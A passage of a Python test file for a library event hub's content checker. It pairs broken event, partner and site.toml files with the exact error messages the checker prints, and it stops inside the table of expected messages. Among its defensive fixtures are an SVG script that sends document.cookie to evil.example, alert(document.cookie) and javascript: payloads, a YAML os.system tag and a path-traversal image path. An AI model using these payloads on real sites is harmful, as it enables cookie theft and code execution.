"""Every content mistake a librarian can make gets one exact message: a small broken hub per rule.

Each case starts from the valid hub in conftest.py, changes one file, and asserts the whole output of
`bulletin check` (Click-style: the exact text staff will read). To add a rule, add a case here."""

import pytest

from conftest import PIPE, Link
from conftest import SITE_TOML as SITE

E = "---\ntitle: Teen Tech Drop-In\nstart: 2026-12-02 15:30\nend: 17:30\nlocation: central\n{}---\nBody.\n"


def ev(extra: str) -> dict:
    """The valid event with `extra` front-matter lines added (they start on line 6)."""
    return {"events/teen-tech.md": E.format(extra)}


def raw(text: str) -> dict:
    """The event file replaced by `text`."""
    return {"events/teen-tech.md": text}


# A weekly series from 2026-10-07 with a date off (10-21) and a cancelled date (10-28); its
# `extra` lines start on line 9.
S = "---\ntitle: Teen Tech Drop-In\nstart: 2026-10-07 15:30\nend: 17:30\nrepeat: {{every: week, until: 2026-11-25, except: [2026-10-21]}}\noccurrences:\n  2026-10-28: {{status: cancelled}}\nlocation: central\n{}---\nBody.\n"


def series(extra: str) -> dict:
    return {"events/teen-tech.md": S.format(extra)}


ONLINE = "---\ntitle: Teen Tech Online\nstart: 2026-10-07 15:30\nonline: https://meet.example.org/t\n{}---\n"
AGE_BANDS = '[age_bands]\nkids = "6-11"\nteens = "12-18"\n'
# Options for the cases that need a pinned moment.
OPTIONS = {"attendance_for_a_session_to_come": ("--now", "2026-10-14T12:00")}


CASES = {
    # the file itself
    "no_front_matter": raw("Teen Tech Drop-In\n\nCome along.\n"),
    "empty_file": raw(""),
    "blank_line_before_front_matter": raw("\n---\ntitle: X\n---\n"),
    "front_matter_never_closed": raw("---\ntitle: X\nstart: 2026-12-02\n"),
    "tab_indentation": raw("---\ntitle: X\nstart: 2026-12-02\nrepeat:\n\tevery: week\n---\n"),
    "not_utf8": {
        "events/teen-tech.md": b"---\ntitle: Caf\xe9 Night\nstart: 2026-12-02\nlocation: central\n---\n"
    },
    "colon_in_unquoted_value": raw(
        "---\ntitle: Film night: Casablanca\nstart: 2026-12-02\nlocation: central\n---\n"
    ),
    "unclosed_quote": raw('---\ntitle: "Film night\nstart: 2026-12-02\nlocation: central\n---\n'),
    "yaml_alias": raw(
        "---\ntitle: &t Film night\nsummary: *t\nstart: 2026-12-02\nlocation: central\n---\n"
    ),
    "value_starts_with_a_reserved_character": ev("summary: @ the library\n"),
    "star_starts_an_alias": ev("summary: *New* this year\n"),
    "value_goes_on_after_its_quotes": ev('summary: "Best" Books of the year\n'),
    "backslash_in_double_quotes": ev('summary: "AC\\DC tribute night"\n'),
    "duplicate_key": raw(
        "---\ntitle: Film night\nstart: 2026-12-02\nlocation: central\nstart: 2026-12-03\n---\n"
    ),
    "front_matter_is_a_list": raw("---\n- title: Film night\n---\n"),
    "file_name_with_capitals_and_spaces": {"events/Teen Tech Night.md": E.format("")},
    "file_not_markdown": {"events/film-night.txt": E.format("")},
    "duplicate_event_slug": {"events/2027/teen-tech.md": E.format("")},
    "venue_and_partner_share_a_slug": {
        "venues/youth-haven.md": "---\nname: Youth Haven Hall\naddress: 12 Pine St\n---\n"
    },
    "partner_in_sub_folder": {
        "partners/schools/riverside-high.md": "---\nname: Riverside High\n---\n"
    },
    # attendance, the library's role, the survey's age groups
    "attendance_for_a_date_not_a_session": series("attendance:\n  2026-10-08: 12\n"),
    "attendance_on_a_date_off": series("attendance:\n  2026-10-21: 12\n"),
    "attendance_on_a_cancelled_date": series("attendance:\n  2026-10-28: 12\n"),
    "attendance_for_a_session_to_come": series("attendance:\n  2026-10-14: 12\n"),
    "attendance_negative": series("attendance:\n  2026-10-07: -12\n"),
    "attendance_with_a_thousands_separator": series("attendance:\n  2026-10-07: 1,200\n"),
    "attendance_not_a_number": series("attendance:\n  2026-10-07: about 30\n"),
    "attendance_absurd": series("attendance:\n  2026-10-07: 120000\n"),
    "attendance_of_a_series_as_one_number": series("attendance: 12\n"),
    "attendance_of_a_single_event_by_date": ev("attendance:\n  2026-12-02: 12\n"),
    "attendance_of_a_cancelled_event": ev("status: cancelled\nattendance: 12\n"),
    "attendance_of_a_hybrid_event_as_one_number": ev(
        "online: https://meet.example.org/t\nattendance: 12\n"
    ),
    "attendance_key_misspelt": ev("attendance: {inperson: 12}\n"),
    "attendance_split_with_a_comma": ev("attendance: {in_person: 1,200}\n"),
    "attendance_empty_split": ev("attendance: {}\n"),
    "attendance_in_person_for_an_online_event": {
        "events/teen-tech.md": ONLINE.format("attendance: {in_person: 12}\n")
    },
    "attendance_online_without_a_link": ev("attendance: {in_person: 12, online: 3}\n"),
    "library_role_misspelt": ev("library_role: cosponsor\n"),
    "age_band_unknown": ev("age_band: 13-18\n"),
    "site_toml_fiscal_year_start_not_a_month": {
        "site.toml": SITE.replace(
            'timezone = "America/Chicago"\n',
            'timezone = "America/Chicago"\nfiscal_year_start = 13\n',
        )
    },
    "site_toml_age_band_unknown": {"site.toml": SITE + AGE_BANDS.replace('"6-11"', '"6-12"')},
    "site_toml_age_band_for_an_unknown_audience": {
        "site.toml": SITE + AGE_BANDS + 'teen = "12-18"\n'
    },
    "site_toml_age_band_missing_for_an_audience": {
        "site.toml": SITE + AGE_BANDS.replace('teens = "12-18"\n', "")
    },
    "file_is_a_symbolic_link": {"events/linked.md": Link("../../outside/event.md")},
    "folder_is_a_symbolic_link": {"media/shared": Link("../../outside")},
    "file_is_a_named_pipe": {"events/pipe.md": PIPE},
    "file_name_too_long": {f"events/{'a' * 252}.md": E.format("")},
    # the description (the body)
    "body_control_character": raw(
        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\nFirst line.\nPress \x1b[1mEnter\n"
    ),
    "body_nested_too_deep": raw(
        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\n" + "- " * 600 + "\n"
    ),
    "body_too_many_brackets": raw(
        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\nIntro.\n\n" + "[" * 10_000 + "\n"
    ),
    "body_too_many_angle_brackets": raw(
        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\n" + "<a " * 600 + "\n"
    ),
    "body_too_long": raw(
        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\n" + "Words. " * 3000 + "\n"
    ),
    "body_direction_override": raw(
        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\nPay at \u202eelbat eht\u202c.\n"
    ),
    "text_direction_override": ev("cost: \u202e5$\u202c\n"),
    # media that would run as code on the hub's address
    "svg_with_a_script": {
        "media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<rect width="9"/>\n'
        "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n</svg>\n"
    },
    "svg_with_an_event_handler": {
        "media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'
    },
    "svg_loading_from_another_site": {
        "media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n'
        '<use href="https://evil.example/sprite.svg#a"/>\n</svg>\n'
    },
    "svg_with_entities": {
        "media/flyer.svg": '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaa">]>\n'
        '<svg xmlns="http://www.w3.org/2000/svg">&a;</svg>\n'
    },
    "svg_not_well_formed": {"media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<g>\n'},
    "web_page_in_media": {"media/flyer.html": "<script>alert(document.cookie)</script>\n"},
    "no_break_space_after_a_key": raw(
        "---\ntitle:\u00a0Teen Tech Drop-In\nstart: 2026-12-02 15:30\nlocation: central\n---\n"
    ),
    "events_folder_in_capitals": {"events/teen-tech.md": None, "Events/teen-tech.md": E.format("")},
    "registration_mailto_without_an_address": ev('registration: "mailto:"\n'),
    # keys
    "unknown_key_with_suggestion": ev("strat: 2026-12-02\n"),
    "unknown_key": ev("colour: blue\n"),
    "repeat_key_at_top_level": ev("every: week\n"),
    "title_missing": raw("---\nstart: 2026-12-02 15:30\nlocation: central\n---\n"),
    "start_missing": raw("---\ntitle: X\nlocation: central\n---\n"),
    "empty_quotes": ev('summary: ""\n'),
    "extra_not_key_value_lines": ev("extra: bring a laptop\n"),
    # dates and times
    "start_not_a_date": raw("---\ntitle: X\nstart: December 2nd\nlocation: central\n---\n"),
    "start_impossible_date": raw(
        "---\ntitle: X\nstart: 2027-02-30 10:00\nlocation: central\n---\n"
    ),
    "start_twelve_hour_time": raw(
        "---\ntitle: X\nstart: 2027-02-03 3:30pm\nlocation: central\n---\n"
    ),
    "start_time_without_date": raw("---\ntitle: X\nstart: 15:30\nlocation: central\n---\n"),
    "start_with_utc_offset": raw(
        "---\ntitle: X\nstart: 2027-02-03T15:30:00Z\nlocation: central\n---\n"
    ),
    "end_time_before_start": raw(
        "---\ntitle: X\nstart: 2026-12-02 17:30\nend: 16:00\nlocation: central\n---\n"
    ),
    "end_datetime_before_start": raw(
        "---\ntitle: X\nstart: 2026-12-02 17:30\nend: 2026-12-01 18:00\nlocation: central\n---\n"
    ),
    "end_same_as_start": raw(
        "---\ntitle: X\nstart: 2026-12-02 17:30\nend: 17:30\nlocation: central\n---\n"
    ),
    "end_at_24_00": raw(
        "---\ntitle: X\nstart: 2026-12-02 21:00\nend: 24:00\nlocation: central\n---\n"
    ),
    "all_day_end_with_time": raw(
        "---\ntitle: X\nstart: 2027-03-06\nend: 17:00\nlocation: central\n---\n"
    ),
    "all_day_end_before_start": raw(
        "---\ntitle: X\nstart: 2027-03-06\nend: 2027-03-04\nlocation: central\n---\n"
    ),
    "start_in_spring_forward_gap": raw(
        "---\ntitle: X\nstart: 2027-03-14 02:30\nlocation: central\n---\n"
    ),
    "unknown_time_zone": ev("timezone: America/Chicgo\n"),
    # images
    "image_without_alt": ev("image: media/teens.jpg\n"),
    "image_alt_without_image": ev("image_alt: Two teens at a laptop\n"),
    "image_file_missing": ev("image: media/teen.jpg\nimage_alt: Two teens\n"),
    "image_from_the_web": ev("image: https://example.org/teens.jpg\nimage_alt: Two teens\n"),
    "image_path_outside_media": ev("image: media/../../secrets.jpg\nimage_alt: Two teens\n"),
    "image_path_without_media": ev("image: teens.jpg\nimage_alt: Two teens\n"),
    "image_not_a_picture": ev("image: media/flyer.pdf\nimage_alt: This month's events\n"),
    # vocabularies and references
    "unknown_audience": ev("audiences: [teen]\n"),
    "audience_written_as_its_label": ev("audiences: [Kids (0-12)]\n"),
    "audience_listed_twice": ev("audiences: [teens, teens]\n"),
    "unknown_language": ev("languages: [sp]\n"),
    "unknown_partner": ev("partners: [youth-havn]\n"),
    "partner_listed_twice": ev("partners: [youth-haven, {partner: youth-haven, role: host}]\n"),
    "unknown_partner_role": ev("partners:\n  - {partner: youth-haven, role: sponsr}\n"),
    "draft_partner_on_published_event": {
        "partners/youth-haven.md": "---\nname: Youth Haven\ndraft: true\n---\n",
        **ev("partners: [youth-haven]\n"),
    },
    "unknown_location": raw("---\ntitle: X\nstart: 2026-12-02 15:30\nlocation: centrl\n---\n"),
    "location_not_a_slug": raw(
        "---\ntitle: X\nstart: 2026-12-02 15:30\nlocation: Central Library\n---\n"
    ),
    "no_location_or_online": raw("---\ntitle: X\nstart: 2026-12-02 15:30\n---\n"),
    "room_without_named_location": raw(
        "---\ntitle: X\nstart: 2026-12-02 15:30\nonline: https://meet.example.org/x\nroom: Teen Center\n---\n"
    ),
    "online_not_a_web_address": raw(
        "---\ntitle: X\nstart: 2026-12-02 15:30\nonline: javascript:alert(1)\n---\n"
    ),
    "online_without_https": raw(
        "---\ntitle: X\nstart: 2026-12-02 15:30\nonline: meet.example.org/teen-tech\n---\n"
    ),
    # other fields
    "status_misspelt": ev("status: canceled\n"),
    "rescheduled_and_cancelled": ev("status: cancelled\nrescheduled_from: 2026-11-25 15:30\n"),
    "rescheduled_series": ev("repeat: {every: week}\nrescheduled_from: 2026-11-25 15:30\n"),
    "rescheduled_from_same_as_start": ev("rescheduled_from: 2026-12-02 15:30\n"),
    "yes_for_true": ev("draft: yes\n"),
    "contact_without_email_or_phone": ev("contact: {name: Ana Ruiz}\n"),
    "contact_email_invalid": ev("contact: {name: Ana Ruiz, email: ana at example.org}\n"),
    "registration_without_https": ev("registration: www.example.org/signup\n"),
    "uid_with_spaces": ev("uid: teen tech\n"),
    "uid_used_twice": {"events/film-night.md": E.format("uid: teen-tech@example.org\n")},
    "control_character_in_title": raw(
        '---\ntitle: "Teen\\x07Tech"\nstart: 2026-12-02 15:30\nlocation: central\n---\n'
    ),
    "title_on_two_lines": raw(
        "---\ntitle: |\n  Teen\n  Tech\nstart: 2026-12-02 15:30\nlocation: central\n---\n"
    ),
    "geo_out_of_range": raw(
        "---\ntitle: X\nstart: 2026-12-02 15:30\nlocation: {name: Park, geo: [141.8, -87.8]}\n---\n"
    ),
    # series
    "until_and_count": ev("repeat:\n  every: week\n  until: 2027-05-26\n  count: 10\n"),
    "series_start_not_on_its_days": ev("repeat: {every: week, on: [thursday]}\n"),
    "except_date_not_in_series": ev("repeat: {every: week, except: [2026-12-24]}\n"),
    "occurrence_date_not_in_series": ev(
        "repeat: {every: week}\noccurrences:\n  2026-12-10: {status: cancelled}\n"
    ),
    "occurrences_without_repeat": ev("occurrences:\n  2026-12-02: {status: cancelled}\n"),
    "date_both_excepted_and_changed": ev(
        "repeat: {every: week, except: [2026-12-09]}\noccurrences:\n  2026-12-09: {status: cancelled}\n"
    ),
    "extra_date_already_in_series": ev("repeat: {every: week, also: [2026-12-09]}\n"),
    "until_before_start": ev("repeat: {every: week, until: 2026-11-01}\n"),
    "on_with_daily_series": ev("repeat: {every: day, on: [monday]}\n"),
    "weekday_misspelt": ev("repeat: {every: week, on: [wensday]}\n"),
    "monthly_on_misspelt": ev("repeat: {every: month, on: [frist wednesday]}\n"),
    "rrule_with_every": ev("repeat: {every: week, rrule: FREQ=WEEKLY}\n"),
    "rrule_hourly": ev("repeat: {rrule: FREQ=HOURLY;COUNT=5}\n"),
    "every_missing": ev("repeat: {on: [wednesday]}\n"),
    "every_misspelt": ev("repeat: {every: weekly}\n"),
    "interval_zero": ev("repeat: {every: week, interval: 0}\n"),
    "changed_end_before_changed_start": ev(
        'repeat: {every: week}\noccurrences:\n  2026-12-09: {start: "16:00", end: "15:00"}\n'
    ),
    "changed_date_with_unknown_key": ev(
        'repeat: {every: week}\noccurrences:\n  2026-12-09: {time: "16:00"}\n'
    ),
    "changed_date_postponed": ev(
        "repeat: {every: week}\noccurrences:\n  2026-12-09: {status: postponed}\n"
    ),
    "rrule_at_top_level": ev("rrule: FREQ=WEEKLY\n"),
    "hash_starts_a_comment": ev("room: Room #3\n"),
    "bang_starts_a_tag": ev("summary: !Free for all\n"),
    "python_tag_is_refused": ev("extra:\n  x: !!python/object/apply:os.system [ls]\n"),
    "status_rescheduled": ev("status: rescheduled\n"),
    "postponed_with_a_new_date": ev("status: postponed\nrescheduled_from: 2026-11-25 15:30\n"),
    "time_zone_abbreviation": ev("timezone: EST\n"),
    "time_zone_old_alias": ev("timezone: US/Central\n"),
    "contact_with_empty_email": ev("contact: {name: Ana Ruiz, email: ~}\n"),
    "value_indented_too_far": ev("repeat:\n  every: week\n   on: [wednesday]\n"),
    "value_starting_with_a_dash": ev("summary: - bring snacks\n"),
    # partners and venues
    "partner_kind_unknown": {
        "partners/youth-haven.md": "---\nname: Youth Haven\nkind: charity\n---\n"
    },
    "partner_logo_without_alt": {
        "partners/youth-haven.md": "---\nname: Youth Haven\nlogo: media/teens.jpg\n---\n"
    },
    "venue_without_address": {"venues/central.md": "---\nname: Central Library\n---\n"},
    "partner_since_not_a_date": {
        "partners/youth-haven.md": "---\nname: Youth Haven\nsince: September 2021\n---\n"
    },
    # site.toml
    "site_toml_missing": {"site.toml": None},
    "site_toml_syntax": {"site.toml": "title = Riverside Hub\n"},
    "site_toml_unknown_key": {"site.toml": SITE.replace("timezone", 'colour = "blue"\ntimezone')},
    "site_toml_base_url_missing": {
        "site.toml": SITE.replace('base_url = "https://example.org/hub/"\n', "")
    },
    "site_toml_time_zone_unknown": {"site.toml": SITE.replace("America/Chicago", "Chicago")},
    "site_toml_accent_too_light": {
        "site.toml": SITE.replace("[audiences]", 'accent_color = "#ffcc00"\n\n[audiences]')
    },
    "site_toml_vocabulary_key_with_spaces": {
        "site.toml": SITE.replace("kids = ", '"young kids" = ')
    },
    "site_toml_duration": {
        "site.toml": SITE.replace("[audiences]", 'default_duration = "one hour"\n\n[audiences]')
    },
    "site_toml_setting_after_a_table": {"site.toml": SITE + 'branch = "main"\n'},
    "site_toml_table_twice": {"site.toml": SITE + '\n[categories]\narts = "Arts"\n'},
    "site_toml_key_with_a_space": {
        "site.toml": SITE.replace(
            'technology = "Technology"', 'technology = "Technology"\nbook clubs = "Book clubs"'
        )
    },
    "site_toml_language_key_not_a_code": {
        "site.toml": SITE.replace(
            'en = "English"', 'en = "English"\n"American Sign Language" = "ASL"'
        )
    },
    "site_toml_horizon_too_far": {
        "site.toml": SITE.replace("[audiences]", "horizon_months = 100000\n\n[audiences]")
    },
    "site_toml_vocabulary_key_too_long": {"site.toml": SITE.replace("kids = ", "k" * 300 + " = ")},
    "site_toml_accent_not_a_colour": {
        "site.toml": SITE.replace("[audiences]", 'accent_color = "navy"\n\n[audiences]')
    },
    "site_toml_logo_without_alt": {
        "site.toml": SITE.replace("[audiences]", 'logo = "media/teens.jpg"\n\n[audiences]')
    },
    "site_toml_repository_not_an_address": {
        "site.toml": SITE.replace(
            "[audiences]", 'repository = "riverside-library/community-hub"\n\n[audiences]'
        )
    },
    "site_toml_branch_unsafe": {
        "site.toml": SITE.replace(
            "[audiences]",
            'repository = "https://github.com/riverside-library/community-hub"\nbranch = "main branch"\n\n[audiences]',
        )
    },
    # warnings
    "status_note_on_scheduled_event": ev("status_note: Bring a laptop\n"),
    "private_address_without_neighborhoods": {
        "partners/youth-haven.md": "---\nname: Youth Haven\naddress: 12 Pine St\nprivate_address: true\n---\n"
    },
    "registration_required_without_a_way_to_register": ev("registration_required: true\n"),
    "folder_not_read": {"event/film-night.md": E.format("")},
    # messages that once misled (issue 13, item 15)
    "end_on_a_twelve_hour_clock": raw(
        "---\ntitle: X\nstart: 2026-12-02 14:00\nend: 3:30\nlocation: central\n---\n"
    ),
    "title_in_curly_quotes": raw(
        "---\ntitle: \u201cFilm night: Casablanca\u201d\nstart: 2026-12-02\nlocation: central\n---\n"
    ),
    "audiences_without_brackets": ev("audiences: teens, kids\n"),
    "list_item_indented_less_than_the_one_above": ev("audiences:\n  - teens\n - kids\n"),
    "list_item_indented_more_than_the_one_above": ev("audiences:\n  - teens\n    - kids\n"),
    "image_missing_with_no_file_of_a_like_name": {
        # Compared as whole paths, 'media/events/' made any two names alike.
        "media/events/lunar-new-year.svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        **ev("image: media/events/flyer.png\nimage_alt: This month's events\n"),
    },
    "room_with_a_location_that_is_not_a_file_name": raw(
        "---\ntitle: X\nstart: 2026-12-02 15:30\nlocation: Central Library\nroom: Teen Center\n---\n"
    ),
    "site_toml_category_named_like_a_setting": {
        "site.toml": SITE.replace(
            'technology = "Technology"', 'technology = "Technology"\nlanguage = "Language learning"'
        )
    },
    "site_toml_language_setting_after_a_table": {"site.toml": SITE + 'language = "es"\n'},
    "lang_not_a_hub_language": ev("lang: spa\n"),
    "series_time_in_a_spring_forward_gap": raw(
        "---\ntitle: X\nstart: 2027-03-07 02:30\nend: 03:30\nlocation: central\n"
        "repeat: {every: week, count: 3}\n---\n"
    ),
}

EXPECTED = {
    "age_band_unknown": [
        "content/events/teen-tech.md:6: 'age_band' is '13-18'; did you mean '12-18'? (choose one of: 0-5, 6-11, 12-18, 19+, all-ages)",
    ],
    "attendance_absurd": [
        "content/events/teen-tech.md:10: 'attendance.2026-10-07' 120000 is more than one session can have (at most 20,000); check the number",
    ],
    "attendance_empty_split": [
        "content/events/teen-tech.md:6: 'attendance' needs at least one of in_person, online, views",
    ],
    "attendance_for_a_date_not_a_session": [
        "content/events/teen-tech.md:10: 'attendance' has Thursday 2026-10-08, which is not a date of this series (every Wednesday until November 25, 2026); did you mean 2026-10-07 (Wednesday)?",
    ],
    "attendance_for_a_session_to_come": [
        "content/events/teen-tech.md:10: 'attendance' has 2026-10-14 for a session still to come (it starts Wednesday 2026-10-14 15:30); record attendance after the session",
    ],
    "attendance_in_person_for_an_online_event": [
        "content/events/teen-tech.md:5: 'attendance.in_person' is for people in the room, but this event is online only; give 'online' (and 'views' for its recording)",
    ],
    "attendance_key_misspelt": [
        "content/events/teen-tech.md:6: unknown key 'inperson'; did you mean 'in_person'? (the keys 'attendance' accepts are in_person, online, views)",
    ],
    "attendance_negative": [
        "content/events/teen-tech.md:10: 'attendance.2026-10-07' cannot be negative ('-12'); write how many came, e.g. 23",
    ],
    "attendance_not_a_number": [
        "content/events/teen-tech.md:10: 'attendance.2026-10-07' must be a whole number of people, e.g. 23, not 'about 30'",
    ],
    "attendance_of_a_cancelled_event": [
        "content/events/teen-tech.md:7: 'attendance' is given, but the event is cancelled; remove it, or if the event did take place, remove 'status: cancelled'",
    ],
    "attendance_of_a_hybrid_event_as_one_number": [
        "content/events/teen-tech.md:7: 'attendance' of a hybrid event (in person and online) needs the split, e.g. 'attendance: {in_person: 30, online: 12}' (0 when nobody came one way)",
    ],
    "attendance_of_a_series_as_one_number": [
        "content/events/teen-tech.md:9: 'attendance' of a series is recorded for each date, e.g. '2026-10-14: 23' on a line of its own, indented by two spaces under 'attendance:'",
    ],
    "attendance_of_a_single_event_by_date": [
        "content/events/teen-tech.md:6: 'attendance' of a single event is one number, e.g. 'attendance: 23' (dates are only for a series)",
    ],
    "attendance_on_a_cancelled_date": [
        "content/events/teen-tech.md:10: 'attendance' has 2026-10-28, which is cancelled under 'occurrences'; remove it here, or remove the cancellation if the session took place",
    ],
    "attendance_on_a_date_off": [
        "content/events/teen-tech.md:10: 'attendance' has 2026-10-21, which is in 'repeat.except' (no session that day); remove it here, or take it out of 'repeat.except' if the session took place",
    ],
    "attendance_online_without_a_link": [
        "content/events/teen-tech.md:6: 'attendance.online' is for an event with an 'online' link; give 'in_person' (and 'views' if it was recorded)",
    ],
    "attendance_split_with_a_comma": [
        "content/events/teen-tech.md:6: 'attendance' has a number with a comma; write numbers without separators, e.g. {in_person: 1200}",
    ],
    "attendance_with_a_thousands_separator": [
        "content/events/teen-tech.md:10: 'attendance.2026-10-07' must be written without separators: 1200, not '1,200'",
    ],
    "library_role_misspelt": [
        "content/events/teen-tech.md:6: 'library_role' is 'cosponsor'; did you mean 'co-sponsor'? (choose one of: sponsor, co-sponsor, room-use, none)",
    ],
    "site_toml_age_band_for_an_unknown_audience": [
        "content/site.toml:22: [age_bands] names 'teen', which is not in [audiences]; did you mean 'teens'?",
    ],
    "site_toml_age_band_missing_for_an_audience": [
        "content/site.toml:19: warning: [age_bands] gives no band to the audience 'teens', so it does not decide any program's band in the impact report; add teens = \"none\" (or its band: 0-5, 6-11, 12-18, 19+, all-ages)",
    ],
    "site_toml_age_band_unknown": [
        "content/site.toml:20: 'age_bands.kids' is '6-12'; did you mean '6-11'? (choose one of: 0-5, 6-11, 12-18, 19+, all-ages, none)",
    ],
    "site_toml_fiscal_year_start_not_a_month": [
        "content/site.toml:4: 'fiscal_year_start' must be the month the fiscal year starts, a number from 1 to 12 or its name (7 or \"July\"), not '13'",
    ],
    "no_front_matter": [
        "content/events/teen-tech.md:1: couldn't find front-matter: the file must start with a line '---', then the keys, then another '---'. Did you forget the '---' lines?",
    ],
    "empty_file": [
        "content/events/teen-tech.md: the file is empty; it needs front-matter between two '---' lines (copy a file next to it to start)",
    ],
    "blank_line_before_front_matter": [
        "content/events/teen-tech.md:1: the file must start with '---'; remove the empty line above it",
    ],
    "front_matter_never_closed": [
        "content/events/teen-tech.md:1: the front-matter that starts on line 1 is never closed; add a line '---' after the last key",
    ],
    "tab_indentation": [
        "content/events/teen-tech.md:5: a tab is used for indentation; YAML allows only spaces, so replace the tab with spaces",
    ],
    "not_utf8": [
        "content/events/teen-tech.md:2: is not saved as UTF-8 text (byte 0xE9 cannot be read); save the file as UTF-8, or retype the accented or special characters on this line",
    ],
    "colon_in_unquoted_value": [
        "content/events/teen-tech.md:2: the front-matter is not valid YAML (mapping values are not allowed in this context): a value contains ': ' (put the whole value in double quotes), or this line is indented further than the line above",
    ],
    "unclosed_quote": [
        "content/events/teen-tech.md:2: the front-matter is not valid YAML (found unexpected end of stream): a quoted value is not closed; add the closing quote",
    ],
    "yaml_alias": [
        "content/events/teen-tech.md:3: YAML anchors and aliases ('&name', '*name') are not supported; write the value out in full",
    ],
    "value_starts_with_a_reserved_character": [
        "content/events/teen-tech.md:6: the front-matter is not valid YAML (found character that cannot start any token): a value starts with a character YAML reserves (such as @, ` or %); put the value in quotes",
    ],
    "star_starts_an_alias": [
        "content/events/teen-tech.md:6: the front-matter is not valid YAML (did not find expected alphabetic or numeric character): '*' starts an alias in YAML; put the value in quotes",
    ],
    "value_goes_on_after_its_quotes": [
        "content/events/teen-tech.md:6: the front-matter is not valid YAML (did not find expected key): the indentation of this line does not match the lines above, or a value that starts with a quote or a bracket goes on after it closes; put the whole value in double quotes",
    ],
    "backslash_in_double_quotes": [
        "content/events/teen-tech.md:6: the front-matter is not valid YAML (found unknown escape character): inside double quotes a backslash starts an escape; use single quotes instead",
    ],
    "duplicate_key": [
        "content/events/teen-tech.md:5: 'start' is given twice (first on line 3); keep one of them",
    ],
    "front_matter_is_a_list": [
        "content/events/teen-tech.md:2: the front-matter must be 'key: value' lines, such as 'title: Story Time'",
    ],
    "file_name_with_capitals_and_spaces": [
        "content/events/Teen Tech Night.md: the file name 'Teen Tech Night.md' cannot be a web address; rename the file to 'teen-tech-night.md' (lowercase letters, digits and hyphens)",
    ],
    "file_not_markdown": [
        "content/events/film-night.txt: is not a .md file, so it is not published; rename it to 'film-night.md'",
    ],
    "duplicate_event_slug": [
        "content/events/2027/teen-tech.md: the name 'teen-tech' is also used by content/events/teen-tech.md; each event needs its own file name, because it names the page: rename the newer file (the older one's page may be bookmarked)",
        "content/events/teen-tech.md: the name 'teen-tech' is also used by content/events/2027/teen-tech.md; each event needs its own file name, because it names the page: rename the newer file (the older one's page may be bookmarked)",
    ],
    "venue_and_partner_share_a_slug": [
        "content/partners/youth-haven.md: the name 'youth-haven' is also used by content/venues/youth-haven.md; venues and partners share names, because an event's 'location' may name either: rename the newer file (the older one's page may be bookmarked)",
        "content/venues/youth-haven.md: the name 'youth-haven' is also used by content/partners/youth-haven.md; venues and partners share names, because an event's 'location' may name either: rename the newer file (the older one's page may be bookmarked)",
    ],
    "partner_in_sub_folder": [
        "content/partners/schools: partner files go directly in content/partners/, not in sub-folders; move the files up",
    ],
    "unknown_key_with_suggestion": [
        "content/events/teen-tech.md:6: unknown key 'strat'; did you mean 'start'? (the keys an event accepts are title, summary, start, end, timezone, repeat, occurrences, status, status_note, rescheduled_from, location, room, online, partners, audiences, categories, languages, lang, access, accessibility, cost, registration, registration_required, contact, image, image_alt, draft, uid, library_role, one_to_one, age_band, attendance, extra, imported (free-form data goes under 'extra:'))",
    ],
    "unknown_key": [
        "content/events/teen-tech.md:6: unknown key 'colour'; the keys an event accepts are title, summary, start, end, timezone, repeat, occurrences, status, status_note, rescheduled_from, location, room, online, partners, audiences, categories, languages, lang, access, accessibility, cost, registration, registration_required, contact, image, image_alt, draft, uid, library_role, one_to_one, age_band, attendance, extra, imported (free-form data goes under 'extra:')",
    ],
    "repeat_key_at_top_level": [
        "content/events/teen-tech.md:6: unknown key 'every': 'every' belongs under 'repeat:' (indented by two spaces)",
    ],
    "title_missing": [
        "content/events/teen-tech.md:1: 'title' is required, e.g. 'title: Teen Tech Drop-In'",
    ],
    "start_missing": [
        "content/events/teen-tech.md:1: 'start' is required, e.g. 'start: 2026-12-02 15:30'",
    ],
    "empty_quotes": [
        "content/events/teen-tech.md:6: 'summary' is empty",
    ],
    "extra_not_key_value_lines": [
        "content/events/teen-tech.md:6: 'extra' must hold 'key: value' lines indented under it",
    ],
    "start_not_a_date": [
        "content/events/teen-tech.md:3: 'start' is not a date or a date and time: 'December 2nd' (write it as YYYY-MM-DD HH:MM, e.g. 2026-12-02 15:30, or just the date for an all-day event)",
    ],
    "start_impossible_date": [
        "content/events/teen-tech.md:3: 'start' 2027-02-30 is not a real date (February 2027 has 28 days)",
    ],
    "start_twelve_hour_time": [
        "content/events/teen-tech.md:3: 'start' must use 24-hour time: write 15:30 for '3:30pm'",
    ],
    "start_time_without_date": [
        "content/events/teen-tech.md:3: 'start' needs a date as well as a time (write it as YYYY-MM-DD HH:MM, e.g. 2026-12-02 15:30)",
    ],
    "start_with_utc_offset": [
        "content/events/teen-tech.md:3: 'start' must not carry a UTC offset ('2027-02-03T15:30:00Z'); write the local time and set 'timezone' if the event is not in the site's time zone",
    ],
    "end_time_before_start": [
        "content/events/teen-tech.md:4: 'end' (16:00) is before 'start' (17:30); an event that ends after midnight gives the full date and time, e.g. 'end: 2026-12-03 16:00'",
    ],
    "end_datetime_before_start": [
        "content/events/teen-tech.md:4: 'end' (2026-12-01 18:00) is before 'start' (2026-12-02 17:30)",
    ],
    "end_same_as_start": [
        "content/events/teen-tech.md:4: 'end' is the same as 'start'; leave 'end' out for an event of the site's default length",
    ],
    "end_at_24_00": [
        "content/events/teen-tech.md:4: 'end' is 24:00; for midnight give the next day's date and 00:00, e.g. 2026-12-03 00:00",
    ],
    "all_day_end_with_time": [
        "content/events/teen-tech.md:4: 'end' has a time (17:00) but 'start' is a date without one; for an all-day event 'end' is the last day (e.g. 2027-03-08), and for a timed event 'start' needs a time too",
    ],
    "all_day_end_before_start": [
        "content/events/teen-tech.md:4: 'end' (2027-03-04) is before 'start' (2027-03-06); for an all-day event 'end' is the last day",
    ],
    "start_in_spring_forward_gap": [
